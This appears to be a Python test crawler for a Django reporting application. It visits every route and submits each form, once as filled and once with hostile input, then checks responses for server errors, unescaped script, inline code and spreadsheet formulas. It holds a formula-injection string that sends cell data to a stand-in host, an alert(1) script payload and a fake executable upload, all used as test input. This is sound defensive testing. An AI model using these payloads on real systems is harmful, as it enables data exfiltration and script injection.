"""A crawler for the whole application: every URL the resolver knows, filled with every
object of the database it names, requested as a given client; then every form found on
those pages submitted twice, once as the page filled it and once with hostile values.

URL parameters are filled by the path segment before them ("ke-hoach/<int:pk>" takes
every plan). A route whose parameters no segment explains fails the crawl with its
name, so a new page cannot hide from it: add its segment to `SEGMENTS`."""

from __future__ import annotations

import html
import io
import re
import zipfile
from collections import Counter
from dataclasses import dataclass, field
from html.parser import HTMLParser
from itertools import product
from urllib.parse import urlsplit

from django.conf import settings
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.db import models, transaction
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from theodoi.accounts.models import AdminUnit, Membership, Unit, UnitAlias
from theodoi.canonical.models import CanonicalIndicator
from theodoi.evaluation.models import ExplanationRequest
from theodoi.feedback.models import Feedback
from theodoi.jobs.models import Job
from theodoi.pivot.models import SavedView
from theodoi.plans.models import Indicator, Plan, Task
from theodoi.reports.models import IssuedReport
from theodoi.tracking.models import (
    Evidence,
    IndicatorValue,
    Notification,
    ReportingPeriod,
    TaskReport,
    UnitReport,
)

# Path segment → the objects an integer parameter after it names, and the attribute that
# goes into the URL (communes and provinces by code).
SEGMENTS: dict[str, tuple[type[models.Model], str]] = {
    "xa": (AdminUnit, "code"),
    "tinh": (AdminUnit, "code"),
    "ke-hoach": (Plan, "pk"),
    "ky-bao-cao": (ReportingPeriod, "pk"),
    "don-vi": (Unit, "pk"),
    "nhiem-vu": (Task, "pk"),
    "chi-tieu": (Indicator, "pk"),
    "bao-cao-nhiem-vu": (TaskReport, "pk"),
    "bao-cao-chi-tieu": (IndicatorValue, "pk"),
    "minh-chung": (Evidence, "pk"),
    "thong-bao": (Notification, "pk"),
    "giai-trinh": (ExplanationRequest, "pk"),
    "danh-gia": (ReportingPeriod, "pk"),  # an indicator's result judged in a period
    "ten-khac": (UnitAlias, "pk"),
    "can-bo": (get_user_model(), "pk"),
    "vai-tro": (Membership, "pk"),
    "bang-da-luu": (SavedView, "pk"),
    "gop-y": (Feedback, "pk"),
    "bao-cao": (IssuedReport, "pk"),  # a report a commune released to the public
    "chi-tieu-chuan": (CanonicalIndicator, "pk"),  # a province compares on one entry
    # The JSON API (/api/v1/), named in English for the systems that call it.
    "communes": (AdminUnit, "code"),
    "plans": (Plan, "pk"),
    "tasks": (Task, "pk"),
    "indicators": (Indicator, "pk"),
    "periods": (ReportingPeriod, "pk"),
    "unit-reports": (UnitReport, "pk"),
    "task-reports": (TaskReport, "pk"),
    "indicator-values": (IndicatorValue, "pk"),
    "canonical-indicators": (CanonicalIndicator, "pk"),
    "cong-viec": (Job, "pk"),
}
# A text parameter ("so-lieu-<slug:table>.csv") takes the values the pages link to (the
# crawl follows links) and this one, which must be a 404, not a 500.
NO_SUCH = "khong-co"
# How each kind of object reaches its commune: objects named in one URL share one.
COMMUNE_PATHS = {
    Plan: "commune",
    ReportingPeriod: "plan__commune",
    Unit: "commune",
    Task: "plan__commune",
    Indicator: "plan__commune",
    TaskReport: "unit_report__unit__commune",
    IndicatorValue: "unit_report__unit__commune",
    Evidence: "unit_report__unit__commune",
    ExplanationRequest: "period__plan__commune",
    UnitAlias: "unit__commune",
    Membership: "commune",
    Feedback: "commune",
    IssuedReport: "period__plan__commune",
    UnitReport: "unit__commune",
    Job: "commune",
}
LINK = re.compile(r'href="(/[^"#]*)"')
# What our policy (script-src 'self'; style-src 'self') refuses to run. A JSON data block
# (`json_script`: a chart's figures) is not run, and the policy lets it be.
INLINE_CODE = re.compile(
    r"<script(?![^>]*\s(?:src=|type=\"application/json\"))[^>]*>|<style[\s>]|\sstyle=\"|\son[a-z]+=\""
)
PARAM = re.compile(r"<(?:(?P<conv>\w+):)?(?P<name>\w+)>")
SPREADSHEET_TYPES = ("spreadsheetml", "text/csv")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TEXT = '=HYPERLINK("http://x.invalid/?"&A1,"<script>alert(1)</script>")'
HOSTILE_VALUES = {
    "text": "x" * 5000,
    "number": "99999",
    "negative": "-5",
    "date": "31/02/10000",
    "year": "10000",
}


@dataclass
class Route:
    route: str
    name: str
    admin: bool = False


@dataclass
class Form:
    action: str
    method: str
    fields: dict[str, str] = field(default_factory=dict)
    files: list[str] = field(default_factory=list)
    page: str = ""


@dataclass
class Failure:
    method: str
    url: str
    who: str
    status: int
    detail: str

    def __str__(self) -> str:
        return f"{self.method} {self.url} as {self.who}: {self.status} {self.detail[:300]}"


def routes() -> list[Route]:
    """Every route of the application, admin routes marked (they are crawled through the
    admin's registry instead)."""
    found = []

    def walk(patterns, prefix="", namespace="", under_admin=False):
        for p in patterns:
            if isinstance(p, URLResolver):
                ns = p.namespace or namespace
                walk(
                    p.url_patterns,
                    prefix + str(p.pattern),
                    ns,
                    under_admin or p.app_name == "admin",
                )
            elif isinstance(p, URLPattern):
                name = f"{namespace}:{p.name}" if namespace and p.name else p.name or ""
                found.append(Route(prefix + str(p.pattern), name, under_admin))

    walk(get_resolver().url_patterns)
    return found


def _commune_of(obj) -> int | None:
    path = COMMUNE_PATHS.get(type(obj))
    if path is None:
        return obj.pk if isinstance(obj, AdminUnit) and obj.level == "commune" else None
    for part in path.split("__"):
        obj = getattr(obj, part)
    return obj.pk if obj is not None else None


def _param_choices(route: str, objects: dict[str, list]) -> list[list[tuple]] | None:
    """For each parameter of the route, its candidates as (name, object or None, value);
    None when a parameter is not explained by the path."""
    segments = route.strip("/").split("/")
    choices: list[list[tuple]] = []
    for i, segment in enumerate(segments):
        for match in PARAM.finditer(segment):
            name, conv = match["name"], match["conv"] or "str"
            whole = match.group(0) == segment
            before = segments[i - 1] if i else ""
            if conv == "int" and whole and before in SEGMENTS:
                attr = SEGMENTS[before][1]
                choices.append([(name, o, str(getattr(o, attr))) for o in objects[before]])
            elif conv == "int" and whole and PARAM.fullmatch(before) and choices:
                # "<str:kind>/<int:pk>/": the kind names the objects (filled below).
                choices.append([(name, "by-kind", "")])
            elif conv in ("str", "slug") and whole and i == 0:
                choices.append([(name, None, kind) for kind in SEGMENTS])
            elif conv in ("str", "slug"):
                choices.append([(name, None, NO_SUCH)])
            else:
                return None
    return choices


def _segment_values(route: str, objects: dict[str, list]) -> list[dict[str, str]] | None:
    """The parameter values of every URL of this route (objects named together belong
    to one commune), or None when a parameter is not explained by the path."""
    choices = _param_choices(route, objects)
    if choices is None:
        return None
    urls = []
    for combo in product(*choices):
        values = {name: value for name, _, value in combo}
        communes = {_commune_of(obj) for _, obj, _ in combo if isinstance(obj, models.Model)}
        if len(communes - {None}) > 1:
            continue
        by_kind = [name for name, obj, _ in combo if obj == "by-kind"]
        if by_kind:
            kind = next(v for n, o, v in combo if o is None and v in SEGMENTS)
            attr = SEGMENTS[kind][1]
            urls.extend({**values, by_kind[0]: str(getattr(o, attr))} for o in objects[kind][:3])
        else:
            urls.append(values)
    return urls


def _fill(route: str, values: dict[str, str]) -> str:
    return "/" + PARAM.sub(lambda m: values[m["name"]], route)


def app_urls(objects: dict[str, list]) -> tuple[list[str], list[str]]:
    """(every URL of every non-admin route, routes that could not be filled)."""
    urls, unexplained = [], []
    for r in routes():
        if r.admin:
            continue
        values = _segment_values(r.route, objects)
        if values is None:
            unexplained.append(f"{r.name or r.route}: {r.route}")
            continue
        urls.extend(_fill(r.route, v) for v in values)
    return sorted(set(urls)), unexplained


def admin_urls(limit: int = 10) -> list[str]:
    """The admin's index, every registered model's list and add page, and the change
    page of its first and last `limit` objects."""
    urls = [reverse("admin:index")]
    for model in admin.site._registry:
        prefix = f"admin:{model._meta.app_label}_{model._meta.model_name}"
        urls.append(reverse("admin:app_list", args=[model._meta.app_label]))
        urls.append(reverse(f"{prefix}_changelist"))
        urls.append(reverse(f"{prefix}_add"))
        pks = list(model._default_manager.order_by("pk").values_list("pk", flat=True))
        for pk in pks[:limit] + pks[-limit:]:
            urls.append(reverse(f"{prefix}_change", args=[pk]))
            urls.append(reverse(f"{prefix}_history", args=[pk]))
    return sorted(set(urls))


class _Forms(HTMLParser):
    """The forms of a page: action, method, named fields with the values the page gave."""

    def __init__(self, page: str):
        super().__init__()
        self.page, self.forms, self._form = page, [], None
        self._select = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self._form = Form(
                action=a.get("action") or self.page,
                method=(a.get("method") or "get").lower(),
                page=self.page,
            )
            self.forms.append(self._form)
        elif self._form is None or not a.get("name"):
            return
        elif tag == "input":
            kind = a.get("type", "text")
            if kind == "file":
                self._form.files.append(a["name"])
            elif kind in ("checkbox", "radio"):
                if "checked" in a:
                    self._form.fields[a["name"]] = a.get("value", "on")
            elif kind not in ("submit", "button", "reset", "image"):
                self._form.fields[a["name"]] = a.get("value", "")
        elif tag == "textarea":
            self._form.fields[a["name"]] = ""
        elif tag == "select":
            self._select = a["name"]
            self._form.fields[a["name"]] = ""
        elif tag == "option" and self._select:
            if "selected" in a or not self._form.fields[self._select]:
                self._form.fields[self._select] = a.get("value", "")
        elif tag == "button" and a.get("name"):
            self._form.fields[a["name"]] = a.get("value", "")

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None


def forms_of(page_url: str, html: str) -> list[Form]:
    parser = _Forms(page_url)
    parser.feed(html)
    return parser.forms


def hostile(form: Form) -> tuple[dict[str, str], dict]:
    """The form's fields filled with what a careless or hostile user types: far too long
    text, out-of-range numbers and dates, and a text file where a document belongs."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    data = {}
    for name, value in form.fields.items():
        if name == "csrfmiddlewaretoken" or name.endswith("version"):
            data[name] = value
        elif re.search(r"year|nam$", name):
            data[name] = HOSTILE_VALUES["year"]
        elif re.search(r"days|percent|day|month|position", name):
            data[name] = HOSTILE_VALUES["number"]
        elif re.search(r"date|due|completed_on|until", name):
            data[name] = HOSTILE_VALUES["date"]
        else:
            data[name] = HOSTILE_VALUES["text"]
    files = {n: SimpleUploadedFile("khong-phai.pdf", b"MZ not a document") for n in form.files}
    return data, files


def problems_in(response, url: str) -> str:
    """'' if the response is sound; else what is wrong with it."""
    if response.status_code >= 500:
        exc = getattr(response, "exc_info", None)
        return repr(exc[1]) if exc else "server error"
    content_type = response.get("Content-Type", "")
    if getattr(response, "streaming", False):
        return ""
    body = response.content
    if b"Traceback (most recent call last)" in body:
        return "traceback in the page"
    if content_type.startswith("text/html") and b"<script>alert(1)</script>" in body:
        return "unescaped text in the page"
    if content_type.startswith("text/html") and not url.startswith(settings.ADMIN_PATH):
        inline = INLINE_CODE.search(body.decode())
        if inline:
            return f"inline code the Content-Security-Policy blocks: {inline[0][:80]!r}"
    if "spreadsheetml" in content_type:
        return _formulas_in_xlsx(body)
    if "text/csv" in content_type:
        return _formulas_in_csv(body)
    return ""


def _formulas_in_xlsx(body: bytes) -> str:
    from openpyxl import load_workbook

    with zipfile.ZipFile(io.BytesIO(body)):
        pass  # a real zip, or this raises
    wb = load_workbook(io.BytesIO(body))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    return f"formula in {ws.title}!{cell.coordinate}: {cell.value!r}"
    return ""


def _formulas_in_csv(body: bytes) -> str:
    import csv

    text = body.decode("utf-8-sig")
    header = text.partition("\n")[0]
    # Excel in Vietnam reads ";" between fields (the decimal comma takes ",").
    delimiter = ";" if header.count(";") > header.count(",") else ","
    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
        for value in row:
            if value.startswith(FORMULA_START) and not re.fullmatch(r"-?[\d.,]+", value):
                return f"CSV cell that a spreadsheet would run: {value[:40]!r}"
    return ""


@dataclass
class Crawl:
    """Requests made and failures found, for one run over several clients."""

    statuses: Counter = field(default_factory=Counter)
    failures: list[Failure] = field(default_factory=list)
    forms: dict[tuple[str, str], Form] = field(default_factory=dict)

    def request(self, client, who: str, method: str, url: str, data=None):
        response = getattr(client, method)(url, data or {})
        self.statuses[response.status_code] += 1
        problem = problems_in(response, url)
        if problem:
            self.failures.append(Failure(method.upper(), url, who, response.status_code, problem))
        return response

    def get_all(self, client, who: str, urls: list[str]) -> None:
        """GET every URL, then every link those pages hold to a variant not met yet (a
        query string, a text parameter's real values), one per variant; remember each
        form of each page (one per route and client). A route whose first URL answers
        405 (it takes only POST) or sends the client to log in answers so for every
        object: the rest of its URLs are skipped."""
        settled, seen = set(), {_variant_of(u) for u in urls}
        queue = list(urls)
        while queue:
            url = queue.pop(0)
            route = _route_of(url)
            if route in settled:
                continue
            response = self.request(client, who, "get", url)
            if response.status_code in (401, 405) or (
                response.status_code == 302
                and urlsplit(response["Location"]).path == reverse("login")
            ):
                settled.add(route)
            if response.status_code != 200 or "text/html" not in response.get("Content-Type", ""):
                continue
            page = response.content.decode()
            for form in forms_of(url, page):
                self.forms.setdefault((who, _route_of(form.action)), form)
            for link in LINK.findall(page):
                link = html.unescape(link)
                if link.startswith(("/static/", settings.ADMIN_PATH)) or link.startswith("//"):
                    continue
                if _variant_of(link) not in seen:
                    seen.add(_variant_of(link))
                    queue.append(link)

    def submit_forms(self, client, who: str, skip: set[str]) -> None:
        """Each remembered form of this client, as the page filled it, then hostile."""
        for (owner, _), form in sorted(self.forms.items(), key=lambda kv: kv[0]):
            if owner != who or urlsplit(form.action).path in skip:
                continue
            data, files = hostile(form)
            for payload in (form.fields, {**data, **files}):
                # Each submission against the data as loaded: a publish or a delete
                # posted first must not hide the forms that come after it.
                with transaction.atomic():
                    self.request(client, who, form.method, form.action, payload)
                    transaction.set_rollback(True)


def _variant_of(url: str) -> str:
    """The route and the names of its query parameters: /nhiem-vu/?unit=3 → /nhiem-vu/?unit."""
    parts = urlsplit(url)
    keys = sorted({k.partition("=")[0] for k in parts.query.split("&") if k})
    return _route_of(url) + ("?" + "&".join(keys) if keys else "")


def _route_of(url: str) -> str:
    """/ky-bao-cao/3/don-vi/7/ → /ky-bao-cao/N/don-vi/N/: one form per route."""
    return re.sub(r"/\d+(?=/|$)", "/N", urlsplit(url).path)


# Generated records of a kind crawled in the one generated commune that is crawled.
GENERATED_SAMPLE = 5


def objects_by_segment() -> dict[str, list]:
    # `load_demo` adds a dozen generated Hải Phòng communes (`theodoi.synthetic`) for the
    # province to compare. They are built alike, and alike the demo's own: crawling
    # every task, indicator and report of each, as every role, would multiply the
    # crawl's URLs by 4.7 for pages already seen. One of them stands for all (one with
    # indicators as well as tasks), with a few records of each kind.
    generated = list(AdminUnit.objects.filter(synthetic__isnull=False).order_by("code"))
    kept = next((c for c in generated if c.plans.filter(indicators__isnull=False).exists()), None)
    generated_ids = [c.pk for c in generated]
    out = {}
    for segment, (model, _) in SEGMENTS.items():
        qs = model._default_manager.all()
        path = COMMUNE_PATHS.get(model)
        sample = []
        if path and generated:
            if kept:
                mine = qs.filter(**{path: kept}).order_by("pk")
                sample = list(mine if model is Plan else mine[:GENERATED_SAMPLE])
            qs = qs.exclude(**{f"{path}__in": generated_ids})
        if segment in ("xa", "communes"):
            # 3,321 communes: those the demo uses and one it does not.
            used = qs.filter(level="commune", units__isnull=False).exclude(pk__in=generated_ids)
            spare = qs.filter(level="commune", units__isnull=True).order_by("pk")[:1]
            qs = [*used.distinct(), *([kept] if kept else []), *spare]
        elif segment == "tinh":
            qs = qs.filter(level="province", children__units__isnull=False).distinct()
        out[segment] = [*qs, *sample]
    return out
